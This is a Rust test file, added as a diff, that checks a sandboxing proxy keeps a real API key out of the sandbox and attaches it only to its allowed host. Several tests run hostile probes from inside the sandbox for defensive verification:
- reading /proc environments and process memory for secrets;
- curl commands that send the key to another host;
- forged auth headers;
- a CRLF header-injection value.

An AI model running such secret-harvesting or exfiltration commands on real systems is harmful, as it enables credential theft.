@@ -1,0 +1,345 @@
+//! Keys: the real one goes to its own host in its own place and nowhere else; the sandbox has a placeholder.
+
+#![allow(clippy::unwrap_used, reason = "a helper of tests may panic like a test")]
+
+use interceptor_tests::client::fetch::{Answer, Plan};
+use interceptor_tests::{Lab, Outcome};
+use serde_json::{Value, json};
+
+const HOST: &str = "api.example.test";
+const OTHER: &str = "other.example.test";
+const PROTOCOLS: [&str; 2] = ["http/1.1", "h2"];
+
+fn policy(lab: &Lab) -> Value {
+    let mut policy = lab.governed(HOST, json!([{ "methods": [], "paths": ["/"] }]));
+    policy["network"]["allow"] = json!([HOST, OTHER]);
+    policy
+}
+
+/// The placeholder is only known inside: a shell script makes the plan's requests with curl.
+fn curl(lab: &Lab, policy: &Value, arguments: &str) -> Outcome {
+    let script = format!("curl -sS -w '\\n%{{http_code}} %header{{x-interceptor-decision}}\\n' {arguments}");
+    lab.sandbox(policy).at_origin(HOST).at_origin(OTHER).shell(&script)
+}
+
+#[test]
+fn the_sandbox_holds_a_placeholder_of_its_own() {
+    Lab::test(|lab| {
+        let first = lab.sandbox(&policy(lab)).shell("echo $LAB_API_KEY");
+        let second = lab.sandbox(&policy(lab)).shell("echo $LAB_API_KEY");
+        assert!(first.out().contains("proxy-managed"), "{}", first.out());
+        assert_ne!(first.out(), second.out(), "c12: a placeholder is drawn for each sandbox");
+    });
+}
+
+#[test]
+fn the_real_key_is_nowhere_in_the_sandbox() {
+    Lab::test(|lab| {
+        // Whether the key comes from a file, the environment, or stands in the policy, of which the sandbox sees nothing.
+        for key in [json!({ "file": lab.key_file() }), json!({ "env": "REAL_KEY" }), json!(lab.key())] {
+            let mut policy = policy(lab);
+            policy["credentials_v2"]["lab"]["key"] = key;
+            let script = "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; \
+                          cat /proc/1/environ /proc/1/mem 2>&1 | head -c 1000; ls -la /proc/1/root /proc/1/fd 2>&1; \
+                          mount; cat /etc/resolv.conf; true";
+            let outcome = lab.sandbox(&policy).env("REAL_KEY", lab.key()).shell(script);
+            // The canary oracle reads this output and the wrapper's sweep.
+            assert!(outcome.success().out().contains("LAB_API_KEY="));
+        }
+    });
+}
+
+#[test]
+fn a_key_file_is_not_readable_from_inside() {
+    Lab::test(|lab| {
+        let file = lab.key_file();
+        let script = format!(
+            "id -u; cat {} 2>&1; cat {} 2>&1; true",
+            file.display(),
+            lab.directory().join("policy-0.json").display()
+        );
+        let outcome = lab.sandbox(&policy(lab)).shell(&script);
+        assert_eq!(outcome.success().out().matches("Permission denied").count(), 2, "{}", outcome.out());
+        assert_ne!(outcome.out().lines().next(), Some("0"), "the command runs unprivileged");
+    });
+}
+
+#[test]
+fn c7_c9_whatever_authentication_the_client_sends_the_origin_gets_the_real_one_alone() {
+    let own = [
+        vec![("authorization", "Bearer sk-attacker")],
+        vec![("authorization", "Bearer sk-attacker"), ("authorization", "Bearer sk-second")],
+        vec![("Authorization", "Basic YTpi")],
+        vec![("x-api-key", "sk-attacker"), ("api-key", "sk-attacker"), ("x-goog-api-key", "sk-attacker")],
+        vec![("proxy-authorization", "Basic YTpi")],
+        vec![],
+    ];
+    for protocol in PROTOCOLS {
+        Lab::test(|lab| {
+            if protocol == "h2" {
+                lab.unordered();
+            }
+            let plan = own.iter().fold(Plan::https(HOST, protocol), |plan, headers| {
+                plan.ask_with("GET", "/v1/x", headers, "")
+            });
+            let reports = lab.sandbox(&policy(lab)).at_origin(HOST).fetch(&plan);
+            assert!(reports[0].answers.iter().all(|answer| answer.status == 200), "{reports:?}");
+            for seen in lab.seen() {
+                assert_eq!(seen.values("authorization"), [format!("Bearer {}", lab.key())]);
+                for name in ["x-api-key", "api-key", "x-goog-api-key", "proxy-authorization"] {
+                    assert_eq!(seen.values(name), Vec::<&str>::new(), "{name}");
+                }
+                assert!(!format!("{seen:?}").contains("attacker"), "{seen:?}");
+            }
+        });
+    }
+}
+
+#[test]
+fn h9_a_connection_header_cannot_strip_the_key() {
+    Lab::test(|lab| {
+        let plan = Plan::https(HOST, "http/1.1").ask_with(
+            "GET",
+            "/v1/x",
+            &[("connection", "authorization, host, x-hop"), ("x-hop", "1"), ("authorization", "Bearer own")],
+            "",
+        );
+        let reports = lab.sandbox(&policy(lab)).at_origin(HOST).fetch(&plan);
+        let answer = &reports[0].answers[0];
+        match answer.status {
+            200 => {
+                let seen = &lab.seen()[0];
+                assert_eq!(seen.values("authorization"), [format!("Bearer {}", lab.key())]);
+                assert_eq!(seen.values("x-hop"), Vec::<&str>::new());
+            }
+            status => assert_eq!((status, lab.seen().len()), (400, 0), "{answer:?}"),
+        }
+    });
+}
+
+#[test]
+fn other_places_for_the_key() {
+    Lab::test(|lab| {
+        let shapes = [
+            (json!({ "header": "x-billing-key", "format": "{key}" }), "x-billing-key", "{key}"),
+            (json!({ "header": "authorization", "format": "token {key}" }), "authorization", "token {key}"),
+        ];
+        for (index, (inject, header, value)) in shapes.into_iter().enumerate() {
+            let mut policy = policy(lab);
+            policy["credentials_v2"]["lab"]["inject"] = inject;
+            let reports =
+                lab.sandbox(&policy).at_origin(HOST).fetch(&Plan::https(HOST, "h2").ask("GET", "/v1/x"));
+            assert_eq!(reports[0].answers[0].status, 200, "{reports:?}");
+            assert_eq!(lab.seen()[index].values(header), [value.replace("{key}", lab.key())]);
+        }
+        let mut policy = policy(lab);
+        policy["credentials_v2"]["lab"]["inject"] = json!({ "query": "key" });
+        let plan = Plan::https(HOST, "h2").ask("GET", "/v1/x?a=1&key=own&b=2");
+        let reports = lab.sandbox(&policy).at_origin(HOST).fetch(&plan);
+        assert_eq!(reports[0].answers[0].status, 200, "{reports:?}");
+        let query = lab.seen()[2].query.clone().unwrap();
+        assert!(query.contains(&format!("key={}", lab.key())) && !query.contains("own"), "{query}");
+        assert!(query.contains("a=1") && query.contains("b=2"), "{query}");
+    });
+}
+
+#[test]
+fn c3_what_the_origin_echoes_holds_the_placeholder_instead() {
+    let queries = [
+        "",
+        "?in=header",
+        "?in=location",
+        "?in=trailer",
+        "?in=bytes",
+        "?encoding=gzip",
+        "?encoding=br",
+        "?encoding=deflate",
+        "?encoding=zstd",
+        "?encoding=gzip&in=bytes",
+        "?encoding=br&in=bytes",
+    ];
+    for protocol in ["--http1.1", "--http2"] {
+        Lab::test(|lab| {
+            let mut script = String::from("echo \"placeholder $LAB_API_KEY\"\n");
+            for query in queries {
+                script.push_str(&format!(
+                    "echo '== {query}'; curl -sSi {protocol} --compressed -H 'accept-encoding: gzip, br, deflate, zstd' \
+                     -d 'a body' 'https://{HOST}/echo{query}' || exit\n"
+                ));
+            }
+            let outcome = lab.sandbox(&policy(lab)).at_origin(HOST).shell(&script);
+            let text = outcome.success().out();
+            let placeholder = text.lines().next().unwrap().strip_prefix("placeholder ").unwrap();
+            for part in text.split("== ").skip(1) {
+                let (query, answer) = part.split_once('\n').unwrap();
+                // curl 7.88 shows no trailers over HTTP/2; the canary oracle judges those.
+                if query != "?in=trailer" {
+                    assert!(answer.contains(placeholder), "{query}: {answer}");
+                }
+                assert!(!answer.contains("CANARY"), "{query}");
+            }
+            assert_eq!(lab.seen().len(), queries.len());
+        });
+    }
+}
+
+#[test]
+fn c3_a_websocket_echo_of_the_handshake_does_not_show_the_key() {
+    Lab::test(|lab| {
+        let outcome = lab.sandbox(&policy(lab)).at_origin(HOST).python(&websocket("head"));
+        assert!(outcome.success().out().contains("101"), "{}", outcome.out());
+    });
+}
+
+#[test]
+fn h10_a_websocket_is_forwarded_where_a_rule_allows_its_handshake() {
+    Lab::test(|lab| {
+        let outcome = lab.sandbox(&policy(lab)).at_origin(HOST).python(&websocket("over and out"));
+        assert!(outcome.success().out().contains("over and out"), "{}", outcome.out());
+        assert_eq!(lab.seen()[0].values("authorization"), [format!("Bearer {}", lab.key())]);
+        let record = outcome.requests("allow")[0];
+        assert_eq!((record.protocol.as_deref(), record.status), (Some("ws"), Some(101)), "{record:?}");
+    });
+    Lab::test(|lab| {
+        let mut policy = policy(lab);
+        policy["credentials_v2"]["lab"]["endpoints"] = json!([{ "methods": [], "paths": ["/v1/"] }]);
+        let outcome = lab.sandbox(&policy).at_origin(HOST).python(&websocket("x"));
+        assert!(outcome.out().contains("403"), "{}\n{}", outcome.out(), outcome.tail());
+        assert_eq!(lab.seen().len(), 0);
+    });
+}
+
+/// A WebSocket client of thirty lines: sends one text message and prints what comes back.
+fn websocket(message: &str) -> String {
+    format!(
+        r#"
+import base64, os, socket, ssl, struct
+s = ssl.create_default_context().wrap_socket(socket.create_connection(('{HOST}', 443)), server_hostname='{HOST}')
+s.settimeout(10)
+key = base64.b64encode(os.urandom(16)).decode()
+s.sendall(f'GET /ws HTTP/1.1\r\nhost: {HOST}\r\nconnection: Upgrade\r\nupgrade: websocket\r\n'
+          f'sec-websocket-version: 13\r\nsec-websocket-key: {{key}}\r\n\r\n'.encode())
+head = b''
+while b'\r\n\r\n' not in head:
+    part = s.recv(4096)
+    if not part: break
+    head += part
+print(head.decode())
+if b' 101 ' in head.split(b'\r\n')[0]:
+    payload, mask = b'{message}', os.urandom(4)
+    s.sendall(bytes([0x81, 0x80 | len(payload)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
+    print(s.recv(65536))
+    s.sendall(bytes([0x88, 0x80]) + mask)
+    print(s.recv(65536))
+"#
+    )
+}
+
+#[test]
+fn c1_a_placeholder_sent_to_another_host_is_refused_and_recorded() {
+    let places = [
+        "-H \"authorization: Bearer $LAB_API_KEY\" https://OTHER/x",
+        "-H \"x-anything: $LAB_API_KEY\" https://OTHER/x",
+        "-H \"cookie: a=b; session=$LAB_API_KEY\" https://OTHER/x",
+        "-u \"user:$LAB_API_KEY\" https://OTHER/x",
+        "\"https://OTHER/x?key=$LAB_API_KEY\"",
+        "-H \"authorization: Bearer $LAB_API_KEY\" http://OTHER/x",
+    ];
+    for option in ["--http1.1", "--http2"] {
+        for place in places {
+            Lab::test(|lab| {
+                let outcome = curl(lab, &policy(lab), &format!("{option} {}", place.replace("OTHER", OTHER)));
+                assert!(
+                    outcome.success().out().contains("403 deny; reason=credential_misuse"),
+                    "{place}: {}",
+                    outcome.out()
+                );
+                let record = outcome.one_denied("credential_misuse");
+                assert_eq!(record.credential.as_deref(), Some("lab"));
+                assert_eq!(lab.seen().len(), 0);
+            });
+        }
+    }
+}
+
+#[test]
+fn with_two_credentials_for_a_host_the_placeholder_selects() {
+    Lab::test(|lab| {
+        let second = lab.another_key();
+        let mut policy = policy(lab);
+        policy["credentials_v2"]["second"] = json!({
+            "key": { "file": lab.secret_file("second", &second) }, "hosts": [HOST], "env": "SECOND_KEY",
+            "endpoints": [{ "methods": ["GET"], "paths": ["/second"] }],
+        });
+        let first =
+            curl(lab, &policy, &format!("-H \"authorization: Bearer $LAB_API_KEY\" https://{HOST}/first"));
+        assert!(first.success().out().contains("\n200 "), "{}", first.out());
+        let other =
+            curl(lab, &policy, &format!("-H \"authorization: Bearer $SECOND_KEY\" https://{HOST}/second"));
+        assert!(other.success().out().contains("\n200 "), "{}", other.out());
+        let outside =
+            curl(lab, &policy, &format!("-H \"authorization: Bearer $SECOND_KEY\" https://{HOST}/first"));
+        assert!(outside.out().contains("403 deny; reason=endpoint_denied"), "{}", outside.out());
+        let none = curl(lab, &policy, &format!("https://{HOST}/second"));
+        assert!(none.out().contains("403 deny; reason=credential_ambiguous"), "{}", none.out());
+        let keys: Vec<_> = lab.seen().iter().map(|seen| seen.values("authorization").join(",")).collect();
+        assert_eq!(keys, [format!("Bearer {}", lab.key()), format!("Bearer {second}")]);
+    });
+}
+
+#[test]
+fn c10_a_key_that_cannot_be_used_stops_the_start_and_is_not_printed() {
+    Lab::test(|lab| {
+        let bad = [
+            format!("{}\r\nx-evil: 1", lab.key()),
+            format!("{}\u{e9}", lab.key()),
+            String::new(),
+            "\n".into(),
+        ];
+        for (index, key) in bad.iter().enumerate() {
+            let mut policy = policy(lab);
+            policy["credentials_v2"]["lab"]["key"] =
+                json!({ "file": lab.secret_file(&format!("bad-{index}"), key) });
+            let outcome = lab.sandbox(&policy).bare().run(&["true"]);
+            assert_eq!(outcome.code(), Some(125), "{}", outcome.tail());
+            assert!(outcome.err().contains("lab"), "{}", outcome.tail());
+        }
+        let mut policy = policy(lab);
+        for source in [json!({ "env": "NOT_SET_ANYWHERE" }), json!({ "file": "/nonexistent/key" })] {
+            policy["credentials_v2"]["lab"]["key"] = source;
+            let outcome = lab.sandbox(&policy).bare().run(&["true"]);
+            assert_eq!(outcome.code(), Some(125), "{}", outcome.tail());
+        }
+    });
+}
+
+#[test]
+fn c5_a_redirect_to_another_host_is_a_new_request() {
+    Lab::test(|lab| {
+        let location = format!("https%3A%2F%2F{OTHER}%2Fnext");
+        let arguments = format!(
+            "-L --location-trusted -H \"authorization: Bearer $LAB_API_KEY\" 'https://{HOST}/set?location={location}'"
+        );
+        // The origin's 302 comes from curl's point of view only if the proxy does not follow it itself.
+        let outcome = curl(lab, &policy(lab), &arguments);
+        outcome.success();
+        assert_eq!(lab.seen().len(), 1, "the proxy follows nothing: {:#?}", lab.seen());
+    });
+}
+
+#[test]
+fn h16_alt_svc_is_dropped() {
+    for protocol in PROTOCOLS {
+        Lab::test(|lab| {
+            let plan = Plan::https(HOST, protocol)
+                .ask("GET", "/set?alt-svc=h3%3D%22%3A443%22&x-kept=1&set-cookie=a%3Db");
+            let reports = lab.sandbox(&policy(lab)).at_origin(HOST).fetch(&plan);
+            let answer: &Answer = &reports[0].answers[0];
+            assert_eq!(
+                (answer.status, answer.header("alt-svc"), answer.header("x-kept")),
+                (200, None, Some("1"))
+            );
+            assert_eq!(answer.header("set-cookie"), Some("a=b"));
+        });
+    }
+}
